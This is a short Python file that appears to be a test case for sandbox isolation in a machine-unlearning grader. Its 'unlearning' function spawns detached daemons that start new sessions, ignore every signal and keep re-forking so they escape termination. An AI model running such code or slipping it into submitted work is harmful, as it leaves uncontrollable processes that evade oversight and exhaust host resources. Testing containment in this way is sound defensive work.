"""Leaves daemons behind that change session and group, ignore signals and keep forking."""

import os
import signal
import time

LAYER = "namespaces"
EXPECTED = "ok"


def unlearning(net, retain, forget, validation):
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    continue
            while True:
                if os.fork():
                    os._exit(0)
                time.sleep(0.01)
    time.sleep(0.1)
